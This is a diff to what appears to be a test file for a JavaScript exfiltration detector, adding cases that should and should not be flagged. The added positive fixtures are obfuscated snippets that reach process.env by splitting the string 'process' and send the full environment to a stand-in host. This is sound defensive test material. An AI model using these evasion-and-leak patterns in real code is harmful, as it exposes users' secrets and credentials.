@@ -146,6 +146,23 @@ POSITIVE = [
         Kind.KEY_MATERIAL,
     ),
     (
+        "env-through-function-this",
+        "const g = Function('return this')();\nconst p = g['pro' + 'cess'];\n"
+        "require('ht' + 'tps').get('https://a.example.com/?' + JSON.stringify(p.env));",
+        Kind.ENV_DUMP,
+    ),
+    (
+        "env-subscript-through-global-this",
+        "const e = globalThis['pro' + 'cess']['env'];\nfetch('https://a.example.com/', {body: JSON.stringify(e)});",
+        Kind.ENV_DUMP,
+    ),
+    (
+        "env-destructured-from-hidden-process",
+        "const { env } = global['pro' + 'cess'];\n"
+        "fetch('https://a.example.com/', {body: JSON.stringify(env)});",
+        Kind.ENV_DUMP,
+    ),
+    (
         "ids-identity",
         HTTPS + "const os = require('os');\nhttps.get('https://a.example.com/' + os.hostname());",
         Kind.IDENTITY,
@@ -177,6 +194,14 @@ NEGATIVE = [
         "tls-key-option",
         HTTPS
         + "const fs = require('fs');\nconst privateKey = fs.readFileSync('client.key');\nhttps.request({host: 'a.example.com', key: privateKey});",
+    ),
+    (
+        "options-env",
+        "function f(options) { fetch('https://a.example.com/', {body: JSON.stringify(options.env)}); }\nmodule.exports = f;",
+    ),
+    (
+        "config-env-destructured",
+        "const { env } = require('./config');\nfetch('https://a.example.com/', {body: JSON.stringify(env)});",
     ),
     ("env-keys-only", "fetch('https://a.example.com/', {body: Object.keys(process.env).length + ''});"),
     (
